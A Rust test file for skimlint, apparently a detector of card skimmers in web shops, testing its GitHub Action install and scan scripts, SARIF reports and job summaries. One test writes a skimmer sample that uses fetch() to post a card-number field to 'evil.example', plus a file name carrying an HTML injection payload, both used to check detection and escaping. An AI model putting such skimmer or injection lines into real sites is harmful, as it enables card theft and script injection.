//! The GitHub Action's scripts (action/install.sh, action/scan.sh), run the way the runner runs
//! them: environment variables for outputs, the temp folder, the action's path and the inputs
//! (mapped in action.yml's `env:`), then the outputs file and the SARIF report are checked.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn manifest_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// `name=value` lines of a $GITHUB_OUTPUT file (later values win, as on the runner).
fn outputs(path: &Path) -> BTreeMap<String, String> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

struct Runner {
    temp: PathBuf,
    workspace: PathBuf,
    _dir: tempfile::TempDir,
}

impl Runner {
    fn new() -> Runner {
        let dir = tempfile::tempdir().unwrap();
        let temp = dir.path().join("runner-temp");
        let workspace = dir.path().join("workspace");
        std::fs::create_dir_all(&temp).unwrap();
        std::fs::create_dir_all(&workspace).unwrap();
        Runner {
            temp,
            workspace,
            _dir: dir,
        }
    }

    /// A step: `bash $GITHUB_ACTION_PATH/action/<script>` in the workspace, with a fresh
    /// $GITHUB_OUTPUT. Returns the process output and the outputs written.
    fn step(&self, script: &str, inputs: &[(&str, &str)]) -> (Output, BTreeMap<String, String>) {
        let out_file = self.temp.join(format!("output-{script}"));
        let _ = std::fs::remove_file(&out_file);
        let mut c = Command::new("bash");
        c.arg(manifest_dir().join("action").join(script))
            .current_dir(&self.workspace)
            .env("GITHUB_ACTION_PATH", manifest_dir())
            .env("GITHUB_WORKSPACE", &self.workspace)
            .env("RUNNER_TEMP", &self.temp)
            .env("GITHUB_OUTPUT", &out_file)
            .env("GITHUB_PATH", self.temp.join("path"))
            .env("GITHUB_STEP_SUMMARY", self.temp.join("summary.md"))
            .env("GITHUB_ACTIONS", "true")
            .env_remove("SKIMLINT");
        for (k, v) in inputs {
            c.env(k, v);
        }
        let out = c.output().unwrap();
        let o = outputs(&out_file);
        (out, o)
    }
}

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap().flatten() {
        let target = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_tree(&e.path(), &target);
        } else {
            std::fs::copy(e.path(), target).unwrap();
        }
    }
}

#[test]
fn action_yml_wires_inputs_scripts_outputs_and_upload() {
    let yml = std::fs::read_to_string(manifest_dir().join("action.yml")).unwrap();
    for input in [
        "paths:",
        "config:",
        "fail-on:",
        "sarif-file:",
        "upload-sarif:",
        "category:",
    ] {
        assert!(
            yml.contains(&format!("\n  {input}")),
            "input {input} missing"
        );
    }
    for wiring in [
        "INPUT_PATHS: ${{ inputs.paths }}",
        "INPUT_CONFIG: ${{ inputs.config }}",
        "INPUT_FAIL_ON: ${{ inputs.fail-on }}",
        "INPUT_SARIF_FILE: ${{ inputs.sarif-file }}",
        "run: bash \"$GITHUB_ACTION_PATH/action/install.sh\"",
        "run: bash \"$GITHUB_ACTION_PATH/action/scan.sh\"",
        "value: ${{ steps.scan.outputs.sarif-file }}",
        "value: ${{ steps.scan.outputs.findings }}",
        "uses: github/codeql-action/upload-sarif@v3",
        "if: ${{ inputs.upload-sarif == 'true' && steps.scan.outputs.sarif-file != '' }}",
        "category: ${{ inputs.category }}",
    ] {
        assert!(yml.contains(wiring), "action.yml lacks `{wiring}`");
    }
    // Every INPUT_ variable the scan script reads is set by action.yml.
    let scan = std::fs::read_to_string(manifest_dir().join("action/scan.sh")).unwrap();
    for var in scan
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| w.starts_with("INPUT_"))
    {
        assert!(
            yml.contains(&format!("{var}: ")),
            "{var} is not mapped in action.yml"
        );
    }
}

#[test]
fn install_and_scan_scripts_run_like_on_a_runner() {
    let runner = Runner::new();
    // install.sh builds with cargo into $RUNNER_TEMP; sharing this build's target folder makes
    // that a copy of the already compiled binary.
    let target = Path::new(env!("CARGO_BIN_EXE_skimlint"))
        .parent()
        .and_then(Path::parent)
        .unwrap()
        .to_path_buf();
    let (out, o) = runner.step(
        "install.sh",
        &[("CARGO_TARGET_DIR", target.to_str().unwrap())],
    );
    assert!(out.status.success(), "install.sh failed:\n{}", text(&out));
    let bin = runner.temp.join("skimlint/bin/skimlint");
    assert_eq!(o["skimlint"], bin.to_str().unwrap());
    assert!(text(&out).contains(&format!("skimlint {}", env!("CARGO_PKG_VERSION"))));
    let path_file = std::fs::read_to_string(runner.temp.join("path")).unwrap();
    assert_eq!(
        path_file.trim(),
        runner.temp.join("skimlint/bin").to_str().unwrap()
    );
    // Run again: already there, no build.
    let (out, _) = runner.step("install.sh", &[("PATH", "/usr/bin:/bin")]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("already installed"), "{}", text(&out));

    // Two storefronts in the workspace, one infected.
    copy_tree(
        &manifest_dir().join("fixtures/magento2-infected"),
        &runner.workspace.join("magento"),
    );
    copy_tree(
        &manifest_dir().join("fixtures/woocommerce-clean"),
        &runner.workspace.join("woo"),
    );
    let (out, o) = runner.step(
        "scan.sh",
        &[("INPUT_PATHS", "magento\n woo"), ("INPUT_FAIL_ON", "error")],
    );
    assert!(
        out.status.success(),
        "scan.sh must let the upload run: {}",
        text(&out)
    );
    let sarif_path = PathBuf::from(&o["sarif-file"]);
    assert_eq!(
        sarif_path,
        runner.temp.join("skimlint.sarif"),
        "default outside the tree"
    );
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&sarif_path).unwrap()).unwrap();
    let results = doc["runs"][0]["results"].as_array().unwrap();
    assert!(!results.is_empty());
    assert_eq!(o["findings"], results.len().to_string());
    assert_eq!(o["exit-code"], "1");
    assert!(results.iter().all(
        |r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .starts_with("magento/")
    ));
    let summary = std::fs::read_to_string(runner.temp.join("summary.md")).unwrap();
    assert!(
        summary.contains(&format!("{} findings", results.len())),
        "{summary}"
    );

    // Clean tree, explicit report path and a configuration file.
    std::fs::write(
        runner.workspace.join("ci.toml"),
        "[rules]\ndisable = [\"php/eval-of-request-data\"]\n",
    )
    .unwrap();
    let (out, o) = runner.step(
        "scan.sh",
        &[
            ("INPUT_PATHS", "woo"),
            ("INPUT_SARIF_FILE", "out/report.sarif"),
            ("INPUT_CONFIG", "ci.toml"),
        ],
    );
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        (
            o["sarif-file"].as_str(),
            o["findings"].as_str(),
            o["exit-code"].as_str()
        ),
        ("out/report.sarif", "0", "0")
    );
    assert!(runner.workspace.join("out/report.sarif").is_file());
    assert!(text(&out).contains("--config ci.toml"));

    // The configuration applies: the disabled rule is gone from the infected tree's report.
    let (_, o) = runner.step(
        "scan.sh",
        &[("INPUT_PATHS", "magento"), ("INPUT_CONFIG", "ci.toml")],
    );
    let sarif = std::fs::read_to_string(&o["sarif-file"]).unwrap();
    assert!(!sarif.contains("\"ruleId\": \"php/eval-of-request-data\""));
    assert!(o["findings"].parse::<usize>().unwrap() < results.len());

    // A broken configuration fails the step at once, with no report to upload.
    std::fs::write(runner.workspace.join("bad.toml"), "nonsense = 1\n").unwrap();
    let (out, o) = runner.step(
        "scan.sh",
        &[("INPUT_PATHS", "woo"), ("INPUT_CONFIG", "bad.toml")],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!o.contains_key("sarif-file"));
    assert!(text(&out).contains("bad.toml:1:1"), "{}", text(&out));
}

#[test]
fn scan_step_writes_a_job_summary_and_says_when_annotations_were_capped() {
    let runner = Runner::new();
    // 13 skimmers: more errors than GitHub annotates from one step; one file name tries to add
    // HTML to the summary.
    let skimmer = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";
    let web = runner.workspace.join("web");
    std::fs::create_dir_all(&web).unwrap();
    for i in 0..12 {
        std::fs::write(web.join(format!("s{i:02}.js")), skimmer).unwrap();
    }
    std::fs::write(web.join("pay<img src=x onerror=alert(1)>.js"), skimmer).unwrap();
    let bin = env!("CARGO_BIN_EXE_skimlint");
    let github = [
        ("SKIMLINT", bin),
        ("GITHUB_SERVER_URL", "https://github.com"),
        ("GITHUB_REPOSITORY", "acme/shop"),
        ("GITHUB_SHA", "0123456789abcdef0123456789abcdef01234567"),
    ];

    // Annotations on (as with upload-sarif off): 10 per level, the rest as plain log lines.
    let mut inputs = github.to_vec();
    inputs.extend([("INPUT_PATHS", "web"), ("INPUT_UPLOAD_SARIF", "false")]);
    let (out, o) = runner.step("scan.sh", &inputs);
    assert!(out.status.success(), "{}", text(&out));
    let log = String::from_utf8_lossy(&out.stdout).to_string();
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&o["sarif-file"]).unwrap()).unwrap();
    let results = doc["runs"][0]["results"].as_array().unwrap();
    let errors = results.iter().filter(|r| r["level"] == "error").count();
    assert!(errors > 10, "{errors} errors");
    assert_eq!(doc["runs"][0]["automationDetails"]["id"], "skimlint/");
    assert_eq!(
        log.lines().filter(|l| l.starts_with("::error ")).count(),
        10,
        "{log}"
    );
    assert!(log.contains("GitHub keeps at most 10 annotations per level"));
    assert_eq!(
        log.lines()
            .filter(|l| l.starts_with("skimlint: web/") && l.contains(": error["))
            .count(),
        errors - 10,
        "{log}"
    );

    let summary = std::fs::read_to_string(runner.temp.join("summary.md")).unwrap();
    assert!(
        summary.contains(&format!("skimlint: {} findings", results.len())),
        "{summary}"
    );
    assert!(
        summary.contains(&format!("| error | {errors} |")),
        "{summary}"
    );
    assert!(summary.contains("| warning | "), "{summary}");
    assert!(summary.contains("| note | "), "{summary}");
    assert!(
        summary.contains("](https://github.com/acme/shop/blob/0123456789abcdef0123456789abcdef01234567/web/s00.js#L2)"),
        "{summary}"
    );
    assert!(summary.contains("Annotations were capped"), "{summary}");
    assert!(
        summary.contains(&format!("{} errors", errors - 10)),
        "{summary}"
    );
    assert!(
        !summary.contains("<img"),
        "HTML from a file name: {summary}"
    );
    assert!(summary.contains("pay&lt;img"), "{summary}");

    // Default (code scanning upload on): no annotations, a summary without the cap note; the
    // category input becomes the SARIF category.
    std::fs::remove_file(runner.temp.join("summary.md")).unwrap();
    let mut inputs = github.to_vec();
    inputs.extend([("INPUT_PATHS", "web"), ("INPUT_CATEGORY", "storefront")]);
    let (out, o) = runner.step("scan.sh", &inputs);
    assert!(out.status.success(), "{}", text(&out));
    assert!(!String::from_utf8_lossy(&out.stdout).contains("::error "));
    let summary = std::fs::read_to_string(runner.temp.join("summary.md")).unwrap();
    assert!(summary.contains("| error |") && !summary.contains("Annotations were capped"));
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&o["sarif-file"]).unwrap()).unwrap();
    assert_eq!(doc["runs"][0]["automationDetails"]["id"], "storefront/");
}
